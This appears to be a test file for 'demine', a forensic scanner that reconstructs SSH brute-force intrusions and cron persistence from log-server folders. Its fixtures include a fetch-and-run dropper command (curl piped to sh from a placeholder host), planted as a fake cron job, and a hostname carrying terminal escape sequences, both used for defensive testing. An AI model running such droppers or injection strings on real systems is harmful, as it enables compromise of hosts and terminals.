/**
 * Several hosts in one folder, as a log server gives it: who came into which of them, each for itself, beside the host
 * that was scanned. Everything is read from folders, so nothing here needs a lab.
 */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { resultSchema, type ScanResult } from '../../src/model/result.ts';
import { displayWidth } from '../../src/report/width.ts';
import { repository } from '../lab/host.ts';

const scratch = mkdtempSync(join(tmpdir(), 'demine-hosts-'));
afterAll(() => rmSync(scratch, { recursive: true }));

const main = join(repository, 'src', 'cli', 'main.ts');
const minute = 60_000;
const day = 24 * 60 * minute;
const attacker = '203.0.113.9';
const dropper = 'curl -fsSL http://192.0.2.66/x.sh | sh';

function put(path: string, content: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
}

async function demine(
  ...args: readonly string[]
): Promise<{ readonly code: number; readonly said: string; readonly stderr: string }> {
  const child = Bun.spawn([process.execPath, main, ...args], {
    cwd: scratch,
    stdin: 'ignore',
    stdout: 'pipe',
    stderr: 'pipe',
  });
  const [said, stderr] = await Promise.all([
    new Response(child.stdout).text(),
    new Response(child.stderr).text(),
  ]);
  return { code: await child.exited, said, stderr };
}

/** Lines of a host around a moment: its owner, its jobs, and whatever else. */
class Lines {
  readonly #lines: { readonly ms: number; readonly text: string }[] = [];
  readonly #host: string;

  constructor(host: string) {
    this.#host = host;
  }

  add(ms: number, message: string): this {
    const time = new Date(ms).toISOString().replace('Z', '+00:00');
    this.#lines.push({ ms, text: `${time} ${this.#host} ${message}\n` });
    return this;
  }

  /** Two days of an honest host. */
  usual(until: number): this {
    for (let ms = until - 2 * day; ms < until; ms += 60 * minute)
      this.add(ms, 'CRON[7]: (root) CMD (run-parts /etc/cron.hourly)');
    for (let ms = until - 2 * day; ms < until; ms += day / 2)
      this.add(
        ms,
        'sshd[8]: Accepted publickey for ada from 198.51.100.4 port 50001 ssh2: ED25519 SHA256:AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/abcde',
      );
    return this;
  }

  guesses(from: number, address = attacker): this {
    for (let n = 0; n < 60; n += 1)
      this.add(
        from + n * 10_000,
        `sshd[9]: Failed password for root from ${address} port ${40_000 + n} ssh2`,
      );
    return this;
  }

  success(ms: number, address = attacker): this {
    return this.add(ms, `sshd[9]: Accepted password for root from ${address} port 51000 ssh2`);
  }

  jobs(from: number, command = dropper): this {
    for (let n = 0; n < 30; n += 1) this.add(from + n * minute, `CRON[10]: (root) CMD (${command})`);
    return this;
  }

  toString(): string {
    return this.#lines
      .toSorted((a, b) => a.ms - b.ms)
      .map(({ text }) => text)
      .join('');
  }
}

const root = join(scratch, 'web-1');
const server = join(scratch, 'server');
const folder = join(scratch, 'case');
const then = Date.parse('2024-03-10T00:00:00Z');

const resultOf = (path: string): ScanResult =>
  resultSchema.parse(JSON.parse(readFileSync(join(path, 'result.json'), 'utf8')));
const hostOf = (result: ScanResult, name: string) => result.hosts?.find((one) => one.name === name);

beforeAll(() => {
  put(join(root, 'etc/os-release'), 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n');
  put(join(root, 'etc/hostname'), 'web-1\n');
  put(join(root, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
  put(join(root, 'etc/cron.d/update'), `* * * * * root ${dropper}\n`);
  mkdirSync(join(root, 'var/log'), { recursive: true });
  // Guessed, and then a job that its scheduler had never run.
  const mined = new Lines('db-1')
    .usual(then)
    .guesses(then)
    .success(then + 11 * minute)
    .jobs(then + 14 * minute);
  // Guessed at by the same, in vain; its own job is honest.
  const steady = new Lines('app-2')
    .usual(then + day)
    .guesses(then)
    .jobs(then + 20 * minute, '/usr/bin/report --daily');
  // The attacker's address came into it too, with nothing after it: that is db-1's job and not its own.
  const visited = new Lines('cache-3').usual(then + day).success(then + 12 * minute, '198.51.100.4');
  const odd = new Lines('\x1b]0;owned\x07\x1b[2Jdb-9')
    .usual(then)
    .guesses(then)
    .success(then + 11 * minute)
    .jobs(then + 14 * minute);
  // All in one file, as rsyslog writes it without folders.
  put(join(server, 'remote/all.log'), `${mined}${steady}${visited}`);
  put(join(server, 'remote/odd.log'), `${odd}${new Lines('a'.repeat(200)).usual(then)}`);
});

describe('hosts of a log server', () => {
  beforeAll(async () => {
    const { code } = await demine('scan', root, '--out', folder, '--lang', 'en');
    expect(code).toBe(1);
    const added = await demine('case', 'add', folder, server, '--lang', 'en');
    expect({ code: added.code, stderr: added.stderr }).toEqual({ code: 0, stderr: '' });
    expect(added.said).toContain('something was found on 2');
    expect(added.said).toMatch(/db-1 .*probable.*root ← 203\.0\.113\.9/);
  });

  test('each have their way in, and only those that have one', () => {
    const result = resultOf(folder);
    const found = hostOf(result, 'db-1');
    expect(found?.entry?.[0]).toMatchObject({
      vector: 'ssh-brute-force',
      // Of a host of which only logs are left nothing is proven by a time that cannot be set.
      grade: 'probable',
      missing: ['no-inode-times'],
      attackers: [attacker],
      account: 'root',
      firstSuccess: '2024-03-10T00:11:00Z',
    });
    expect(found?.entry?.[0]?.chain.map(({ step, time }) => `${time} ${step}`)).toEqual([
      '2024-03-10T00:00:00Z attempt',
      '2024-03-10T00:11:00Z success',
      '2024-03-10T00:14:00Z persistence',
    ]);
    expect(found?.infectionWindow).toEqual({
      from: '2024-03-10T00:11:00Z',
      to: '2024-03-10T00:14:00Z',
      boundedBy: { from: 'success', to: 'job' },
    });
    expect(found?.onset).toMatchObject({ time: '2024-03-10T00:14:00Z', by: 'job' });
    expect(found?.firstMaliciousFile).toBeUndefined();
    for (const name of ['app-2', 'cache-3']) {
      expect(hostOf(result, name)).toBeDefined();
      expect(hostOf(result, name)?.entry).toBeUndefined();
    }
    // With as much found, the one that has more lines first.
    expect(result.hosts?.slice(0, 2).map(({ name }) => name)).toEqual(['db-1', '%1B]0;owned%07%1B[2Jdb-9']);
    // Nothing of theirs is said of the host that was scanned.
    expect(JSON.stringify([result.entry, result.infectionWindow])).not.toContain(attacker);
  });

  test('of odd names spoil no terminal, no result and no report', async () => {
    for (const language of ['en', 'zh-CN']) {
      for (const args of [
        ['case', 'add', folder, server],
        ['case', 'show', folder],
        ['timeline', folder],
      ]) {
        const { said } = await demine(...args, '--lang', language);
        expect(said).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
        expect(said.split('\n').filter((row) => displayWidth(row) > 80)).toEqual([]);
      }
    }
    expect(readFileSync(join(folder, 'report.html'), 'utf8')).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f]/);
  });

  test('have a column in the timeline, also where one file holds them all', async () => {
    const { said } = await demine('timeline', folder, '--kind', 'login', '--lang', 'en');
    const rows = said.split('\n').filter((row) => /^\d{4}-/.test(row));
    for (const name of ['db-1', 'app-2', 'cache-3'])
      expect(rows.some((row) => row.includes(` ${name} `))).toBe(true);
    const own = await demine('timeline', folder, '--host', 'cache-3', '--lang', 'en');
    expect(own.said).not.toContain(attacker);
  });

  test('that are added again change nothing', async () => {
    const before = resultOf(folder).hosts;
    await demine('case', 'add', folder, server);
    expect(resultOf(folder).hosts).toEqual(before);
    await demine('case', 'set', folder, '--appeared', '2024-03-12');
    expect(resultOf(folder).hosts).toEqual(before);
  });
});

describe('logs of the scanned host from elsewhere', () => {
  test('tell the way in that its own no longer do', async () => {
    const own = join(scratch, 'case-own');
    // Its own logs are gone; the file that was left is of now.
    const now = Date.now();
    await demine('scan', root, '--out', own);
    expect(resultOf(own).entry ?? []).toEqual([]);
    const elsewhere = join(scratch, 'elsewhere');
    const fqdn = new Lines('web-1.example.com')
      .usual(now - 40 * minute)
      .guesses(now - 20 * minute)
      .success(now - 5 * minute);
    put(join(elsewhere, 'web-1/auth.log'), fqdn.toString());
    await demine('case', 'add', own, elsewhere);
    const { entry = [], hosts, infectionWindow } = resultOf(own);
    expect(entry[0]).toMatchObject({ vector: 'ssh-brute-force', attackers: [attacker], account: 'root' });
    expect(entry[0]?.grade).not.toBe('possible');
    expect(infectionWindow?.boundedBy.from).toBe('success');
    expect(hosts).toEqual([]);
  });
});

describe('a folder that holds logs and no host', () => {
  test('is scanned for what they tell of each host: never clean, and the rest is not known', async () => {
    const alone = join(scratch, 'case-alone');
    const { code, said, stderr } = await demine('scan', server, '--out', alone, '--lang', 'en');
    expect({ code, stderr }).toEqual({ code: 1, stderr: '' });
    expect(said).toContain('The logs show an intrusion or a miner on 2 of 5 hosts.');
    expect(said).toContain('Only logs were read');
    expect(said).toMatch(/db-1 .*probable.*root ← 203\.0\.113\.9/);
    const result = resultOf(alone);
    expect(result).toMatchObject({
      verdict: 'suspicious',
      state: 'traces',
      host: { name: 'server', scope: 'files' },
    });
    expect(hostOf(result, 'db-1')?.entry?.[0]).toMatchObject({
      vector: 'ssh-brute-force',
      grade: 'probable',
    });
    expect(result.entry).toBeUndefined();
    expect(result.coverage.filter(({ checked }) => checked)).toEqual([]);
    // The case is one as any other.
    const { said: lines } = await demine(
      'timeline',
      alone,
      '--host',
      'db-1',
      '--kind',
      'login',
      '--grep',
      'Accepted',
    );
    expect(lines).toContain(attacker);
    await demine('case', 'set', alone, '--appeared', '2024-03-12');
    expect(resultOf(alone).told?.appeared).toBe('2024-03-12T00:00:00Z');
  });

  test('of honest hosts is inconclusive, for logs show what was logged alone', async () => {
    const honest = join(scratch, 'honest');
    put(
      join(honest, 'a/auth.log'),
      new Lines('mail-1')
        .usual(then)
        .guesses(then - 60 * minute)
        .toString(),
    );
    const quiet = join(scratch, 'case-quiet');
    expect((await demine('scan', honest, '--out', quiet)).code).toBe(3);
    const { verdict, hosts } = resultOf(quiet);
    expect(verdict).toBe('inconclusive');
    expect(hosts?.map(({ name, entry }) => [name, entry])).toEqual([['mail-1', undefined]]);
    // What is added later may show more.
    await demine('case', 'add', quiet, server);
    expect(resultOf(quiet)).toMatchObject({ verdict: 'suspicious', state: 'traces' });
    expect(resultOf(quiet).hosts?.[0]?.name).toBe('db-1');
  });

  test('without any log is refused as before, and nothing is left of the try', async () => {
    const nothing = join(scratch, 'nothing');
    put(join(nothing, 'note.txt'), 'no log\n');
    for (const more of [[], ['--no-case'], ['--no-logs']]) {
      const { code, stderr } = await demine('scan', nothing, ...more, '--lang', 'en');
      expect(code).toBe(2);
      expect(stderr).toContain('is not a root file system that can be scanned');
    }
    expect(existsSync(join(scratch, 'cases'))).toBe(false);
  });
});
